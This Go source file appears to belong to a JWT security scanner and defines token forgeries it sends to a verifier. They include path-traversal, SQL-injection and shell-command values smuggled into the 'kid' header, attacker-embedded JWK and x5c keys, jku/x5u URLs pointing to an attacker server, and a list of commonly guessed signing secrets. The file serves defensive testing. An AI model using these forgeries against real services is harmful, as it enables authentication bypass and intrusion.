package probe

import (
	"crypto"
	"crypto/ed25519"
	"crypto/x509"
	"crypto/x509/pkix"
	"encoding/base64"
	"encoding/json"
	"encoding/pem"
	"math/big"
	"strings"
	"time"

	"aiuta-edge/simulator/backend/reason"
	"aiuta-edge/simulator/report"
)

// sha256Hash is the hash of HS256.
const sha256Hash = crypto.SHA256

// keyForgeries choose the key that they are verified with.
var keyForgeries = []tokenAttack{
	{
		name: "kid-path", group: "keys", severity: report.Critical,
		summary: "a kid that is the path of a file whose content is known",
		rule:    "RFC 8725 section 3.10; CWE-22",
		forge: func(s *subject) []forgery {
			return s.byKeyID(map[string]string{
				"../../../../../../../../dev/null": "", "/dev/null": "", "file:///dev/null": "",
				"/proc/sys/kernel/randomize_va_space": "2\n", "/nowhere/at/all": "", `key\u0000.pem`: "",
			})
		},
	},
	{
		name: "kid-sql", group: "keys", severity: report.Critical,
		summary: "a kid that makes a query return the attacker's secret",
		rule:    "RFC 8725 section 3.10; CWE-89",
		forge: func(s *subject) []forgery {
			return s.byKeyID(map[string]string{
				"x' UNION SELECT 'attacker-secret-of-32-characters'-- ": "attacker-secret-of-32-characters",
				"' OR '1'='1": "",
			})
		},
	},
	{
		name: "kid-command", group: "keys", severity: report.Critical,
		summary: "a kid that a shell would run; an answer that comes late is a finding",
		rule:    "RFC 8725 section 3.10; CWE-78",
		forge: func(s *subject) []forgery {
			return s.byKeyID(map[string]string{"|sleep 60": "", "$(sleep 60)": "", "key; sleep 60": ""})
		},
	},
	{
		name: "kid-blank", group: "keys", severity: report.Critical,
		summary: "a kid that is empty, no text, or longer than any",
		rule:    "RFC 8725 section 3.10; CVE-2019-20933",
		forge: func(s *subject) []forgery {
			var found []forgery
			for _, kid := range []string{`""`, `null`, `0`, `[]`, `{}`, `"` + strings.Repeat("k", 4000) + `"`} {
				shown := kid
				if len(shown) > 20 {
					shown = "of 4,000 letters"
				}
				found = append(found, forgery{sent: "kid " + shown + ", an empty secret",
					raw: mac(sha256Hash, nil, `{"alg":"HS256","kid":`+kid+`}`, s.payload(nil)), reason: reason.TokenSignature})
			}
			return found
		},
	},
	{
		name: "embedded-jwk", group: "keys", severity: report.Critical,
		summary: "the attacker's own key in the header, as a JWK",
		rule:    "RFC 8725 section 3.1; CVE-2018-0114",
		forge: func(s *subject) []forgery {
			secret := s.evil.Seed()
			jwk := publicJWK(s.evil.Public().(ed25519.PublicKey))
			return []forgery{
				{sent: "an HS256 key and a token signed with it", raw: mac(sha256Hash, secret,
					`{"alg":"HS256","jwk":`+secretJWK(secret)+`}`, s.payload(nil)), reason: reason.TokenSignature},
				{sent: "an Ed25519 key and a token signed with it", raw: signedEdDSA(s.evil, `{"alg":"EdDSA","jwk":`+jwk+`}`, s.payload(nil)), reason: reason.TokenAlgorithm},
			}
		},
	},
	{
		name: "embedded-x5c", group: "keys", severity: report.Critical,
		summary: "the attacker's own certificate in the header",
		rule:    "RFC 8725 section 3.1; RFC 7515 section 4.1.6",
		forge: func(s *subject) []forgery {
			chain := quote(base64.StdEncoding.EncodeToString(certificate(s.evil, s.now)))
			return []forgery{{sent: "a certificate signed by itself", raw: signedEdDSA(s.evil,
				`{"alg":"EdDSA","x5c":[`+chain+`]}`, s.payload(nil)), reason: reason.TokenAlgorithm}}
		},
	},
	{
		name: "jku", group: "keys", severity: report.Critical,
		summary: "a URL in the header from which the attacker serves keys",
		rule:    "RFC 8725 section 3.10; CWE-918",
		forge:   func(s *subject) []forgery { return s.byURL("jku") },
	},
	{
		name: "x5u", group: "keys", severity: report.Critical,
		summary: "a URL in the header from which the attacker serves a certificate",
		rule:    "RFC 8725 section 3.10; CWE-918",
		forge:   func(s *subject) []forgery { return s.byURL("x5u") },
	},
	{
		name: "common-secrets", group: "keys", severity: report.Critical,
		summary: "an honest token signed with a secret that anybody would guess",
		rule:    "RFC 8725 section 3.5; CWE-1392",
		forge: func(s *subject) []forgery {
			var found []forgery
			for _, guess := range commonSecrets {
				found = append(found, forgery{sent: "the secret " + quote(guess), raw: mac(sha256Hash, []byte(guess), header, s.payload(nil)), reason: reason.TokenSignature})
			}
			for _, guess := range s.guesses {
				found = append(found, forgery{sent: "a public id for a secret", raw: mac(sha256Hash, []byte(guess), header, s.payload(nil)), reason: reason.TokenSignature})
			}
			return append(found, forgery{sent: "32 zero bytes for a secret", raw: mac(sha256Hash, make([]byte, 32), header, s.payload(nil)), reason: reason.TokenSignature})
		},
	},
}

// commonSecrets stand in published examples, or are what a program leaves where a secret is missing. Sources: docs
// of aiuta-com, api/server-side-auth-component.md; the jwt.io debugger; PyJWT's and jsonwebtoken's documentation.
var commonSecrets = []string{
	"", "secret", "<JWT_SECRET>", "your_secret_key", "your-256-bit-secret", "a-string-secret-at-least-256-bits-long",
	"changeme", "password", "shhhhh", "null", "undefined", "None", "123456",
}

// byKeyID forges one token for each kid, signed with the secret that the kid is to lead to.
func (s *subject) byKeyID(secrets map[string]string) []forgery {
	var found []forgery
	for _, kid := range sorted(secrets) {
		found = append(found, forgery{sent: "kid " + kid, raw: mac(sha256Hash, []byte(secrets[kid]),
			`{"alg":"HS256","kid":"`+kid+`"}`, s.payload(nil)), reason: reason.TokenSignature})
	}
	return found
}

// byURL forges tokens whose header names a URL on the attacker's server.
func (s *subject) byURL(name string) []forgery {
	head := func(alg, path string) string {
		return `{"alg":"` + alg + `","kid":"evil","` + name + `":"` + s.lure.url(path) + `"}`
	}
	symmetric, public := "/"+name+"/hs256", "/"+name+"/eddsa"
	return []forgery{
		{sent: name + " to a server of the attacker's, HS256", raw: mac(sha256Hash, s.evil.Seed(),
			head("HS256", symmetric), s.payload(nil)), reason: reason.TokenSignature, lured: symmetric},
		{sent: name + " to a server of the attacker's, EdDSA", raw: signedEdDSA(s.evil,
			head("EdDSA", public), s.payload(nil)), reason: reason.TokenAlgorithm, lured: public},
	}
}

func secretJWK(secret []byte) string {
	return `{"kty":"oct","kid":"evil","alg":"HS256","k":"` + b64.EncodeToString(secret) + `"}`
}

func publicJWK(key ed25519.PublicKey) string {
	return `{"kty":"OKP","crv":"Ed25519","kid":"evil","x":"` + b64.EncodeToString(key) + `"}`
}

// publicPEM returns the public half of a key in PEM.
func publicPEM(key ed25519.PrivateKey) string {
	der, err := x509.MarshalPKIXPublicKey(key.Public())
	if err != nil {
		panic("probe: encode a public key: " + err.Error())
	}
	return string(pem.EncodeToMemory(&pem.Block{Type: "PUBLIC KEY", Bytes: der}))
}

// certificate returns a certificate that key has signed for itself, in DER. Ed25519 takes no randomness.
func certificate(key ed25519.PrivateKey, now int64) []byte {
	template := &x509.Certificate{
		SerialNumber: big.NewInt(1), Subject: pkix.Name{CommonName: "attacker"},
		NotBefore: time.Unix(now-3600, 0), NotAfter: time.Unix(now+3600, 0),
	}
	der, err := x509.CreateCertificate(nil, template, template, key.Public(), key)
	if err != nil {
		panic("probe: make a certificate: " + err.Error())
	}
	return der
}

// quote writes a value as JSON.
func quote(value any) string {
	text, err := json.Marshal(value)
	if err != nil {
		panic("probe: " + err.Error())
	}
	return string(text)
}
